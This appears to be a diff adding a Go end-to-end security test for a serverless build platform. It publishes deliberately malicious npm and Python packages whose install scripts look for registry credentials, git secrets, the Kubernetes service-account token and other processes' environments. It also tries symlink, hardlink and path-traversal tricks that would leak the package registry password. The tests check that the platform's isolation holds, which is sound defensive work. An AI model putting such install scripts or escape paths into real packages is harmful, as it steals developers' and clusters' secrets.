@@ -1,0 +1,139 @@
+package main
+
+import (
+	"context"
+	"fmt"
+	"strings"
+
+	"github.com/rouse-run/rouse/e2e/framework"
+	"github.com/rouse-run/rouse/e2e/framework/sources"
+)
+
+// loot is what scripts of packages look for, in their own container and in those beside it.
+const loot = `["/rouse/registry/config.json", "/rouse/registry/..data/config.json", "/rouse/git/username", "/rouse/git/password", "/rouse/git/key",
+	"/var/run/secrets/kubernetes.io/serviceaccount/token"]`
+
+// The scripts leave what they find in the package, so that the Function can show it, and a link to what they cannot read.
+const (
+	evilPostinstall = `const fs = require('node:fs');
+const found = [];
+for (const path of ` + loot + `) { try { fs.readFileSync(path); found.push(path); } catch {} }
+for (const pid of fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
+  try { if (/PASSWORD|TOKEN|_auth/i.test(fs.readFileSync('/proc/' + pid + '/environ', 'utf8'))) found.push('environ of ' + pid); } catch {}
+  for (const path of ` + loot + `) { try { fs.readFileSync('/proc/' + pid + '/root' + path); found.push(pid + path); } catch {} }
+}
+fs.writeFileSync('found.json', JSON.stringify(found));
+fs.symlinkSync('/rouse/registry/config.json', 'link');
+try { fs.linkSync('/rouse/registry/config.json', 'hard'); } catch {}
+`
+	evilHandler = `const fs = require('node:fs');
+const dir = require('node:path').dirname(require.resolve('@shop/evil'));
+module.exports.main = () => {
+  const found = JSON.parse(fs.readFileSync(dir + '/found.json'));
+  for (const name of ['link', 'hard']) { try { fs.readFileSync(dir + '/' + name); found.push(name); } catch {} }
+  return 'found: ' + found.join(' ');
+}`
+	evilSetup = `import json, os
+from setuptools import setup
+found = []
+for path in ` + loot + `:
+    try:
+        open(path).read()
+        found.append(path)
+    except OSError:
+        pass
+os.makedirs("evil_loot", exist_ok=True)
+open("evil_loot/__init__.py", "w").write("FOUND = " + json.dumps(found))
+setup(name="evil-loot", version="1.0.0", packages=["evil_loot"])
+`
+)
+
+func buildAttacks() []attack {
+	return []attack{
+		{"read credentials in the postinstall of an npm package", evilNPM},
+		{"read credentials in the setup.py of a Python package", evilPython},
+		{"have main of package.json quoted from outside of the source", quoted("main", "nodejs22", map[string]string{
+			"package.json": `{"main": "../../packages/.npmrc"}`,
+		})},
+		{"have a linked handler quoted from outside of the source", quoted("link", "nodejs22", map[string]string{
+			"handler.js": sources.Link("../../packages/.npmrc"),
+		})},
+		{"have an absolute link quoted", quoted("absolute", "nodejs22", map[string]string{"handler.js": sources.Link("/rouse/packages/.npmrc")})},
+		{"have requirements quote the settings of pip", quoted("requirements", "python312", map[string]string{
+			"handler.py": "def main(event, context):\n    return 1\n", "requirements.txt": "-r /rouse/packages/pip.conf\n",
+		})},
+	}
+}
+
+// evilNPM is built with the victim's Secrets, which an author of a package would like to have.
+func evilNPM(ctx context.Context, s *stage) (string, error) {
+	err := s.sources.PublishNPM(ctx, "evil", map[string]string{"index.js": "", sources.InstallScript: evilPostinstall})
+	if err != nil {
+		return "", err
+	}
+	return s.findNothing(ctx, framework.Function{
+		Name: "evil-npm", Runtime: "nodejs22", Dependencies: `{"dependencies":{"@shop/evil":"1.0.0"}}`, Source: evilHandler,
+	})
+}
+
+func evilPython(ctx context.Context, s *stage) (string, error) {
+	if err := s.sources.PublishSource(ctx, "evil_loot", evilSetup); err != nil {
+		return "", err
+	}
+	return s.findNothing(ctx, framework.Function{
+		Name: "evil-python", Runtime: "python312", Dependencies: "evil-loot==1.0.0\n",
+		Source: "import evil_loot\ndef main(event, context):\n    return 'found: ' + ' '.join(evil_loot.FOUND)\n",
+	})
+}
+
+func (s *stage) findNothing(ctx context.Context, function framework.Function) (string, error) {
+	if err := s.cluster.ApplyYAML(ctx, s.victim, function.YAML()); err != nil {
+		return "", err
+	}
+	if err := s.cluster.AwaitCondition(ctx, s.victim, framework.FunctionGVK, function.Name, "BuildReady", "True", built); err != nil {
+		return "", err
+	}
+	if err := s.cluster.AwaitAnswer(ctx, s.victim, function.Name, "found: ", built); err != nil {
+		if answer, _ := s.cluster.Answer(ctx, s.victim, function.Name); strings.HasPrefix(answer, "found: ") {
+			return "", succeeded("%s", answer)
+		}
+		return "", err
+	}
+	return "its container, which has none", nil
+}
+
+// quoted builds a repository that leads the builder to the password of the package registry.
+func quoted(name, runtime string, files map[string]string) func(context.Context, *stage) (string, error) {
+	return func(ctx context.Context, s *stage) (string, error) {
+		repository, err := s.sources.Repository(ctx, name, false)
+		if err != nil {
+			return "", err
+		}
+		if _, err := repository.Commit(ctx, "main", files); err != nil {
+			return "", err
+		}
+		function := framework.Function{
+			Name: "quoted-" + name, Runtime: runtime, Git: &framework.Git{URL: repository.HTTP(), Reference: "main", BaseDir: "/"},
+		}
+		if err := s.cluster.ApplyYAML(ctx, s.victim, function.YAML()); err != nil {
+			return "", err
+		}
+		refusal, err := s.refusal(ctx, s.victim, function.Name)
+		if err != nil {
+			return "", err
+		}
+		for _, secret := range s.secrets() {
+			if strings.Contains(refusal, secret) {
+				return "", succeeded("the condition says %q", refusal)
+			}
+		}
+		_, reason, _ := strings.Cut(refusal, "failed: ")
+		return fmt.Sprintf("the builder: %s", strings.ReplaceAll(reason, "\n", " ")), nil
+	}
+}
+
+// secrets are the forms of the password.
+func (s *stage) secrets() []string {
+	_, encoded, _ := strings.Cut(s.sources.NPMRC(), "_auth=")
+	return []string{sources.Password, strings.TrimSpace(encoded)}
+}
